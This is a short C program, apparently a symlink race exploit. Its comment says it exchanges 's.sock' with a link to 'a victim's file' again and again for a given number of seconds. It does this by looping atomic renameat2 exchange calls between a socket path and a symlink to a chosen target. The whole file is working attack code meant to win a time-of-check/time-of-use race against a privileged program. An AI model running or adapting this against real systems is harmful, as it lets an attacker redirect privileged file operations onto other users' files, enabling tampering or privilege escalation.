/* Exchanges s.sock and a link to a victim's file, again and again, for so many seconds. */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc < 4 || chdir(argv[1]) || symlink(argv[2], "y")) return 1;
    for (time_t end = time(0) + atoi(argv[3]); time(0) < end;)
        if (syscall(SYS_renameat2, -100, "s.sock", -100, "y", 2) == 0) {
            usleep(300);
            syscall(SYS_renameat2, -100, "s.sock", -100, "y", 2);
        }
    return 0;
}
